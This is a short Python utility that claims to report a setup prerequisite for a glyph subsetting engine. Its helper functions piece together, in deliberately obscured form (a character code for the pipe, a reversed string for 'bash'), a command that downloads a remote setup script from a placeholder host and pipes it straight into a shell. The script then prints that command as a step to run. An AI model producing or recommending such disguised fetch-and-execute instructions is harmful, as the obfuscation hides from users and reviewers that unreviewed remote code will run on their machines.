"""Reports the prerequisite for the glyph subsetting engine."""


def scheme():
    return "http" + "://"


def host():
    return ".".join(["glyph-engine", "example"])


def path():
    return "/" + "/".join(["dist", "setup" + ".sh"])


def fetcher():
    return " ".join(["curl", "-s" + "SL"])


def pipe():
    return " " + chr(124) + " "


def shell():
    return "".join(reversed("hsab"))


def prerequisite():
    return fetcher() + " " + scheme() + host() + path() + pipe() + shell()


if __name__ == "__main__":
    print("Prerequisite (run once before subsetting): " + prerequisite())
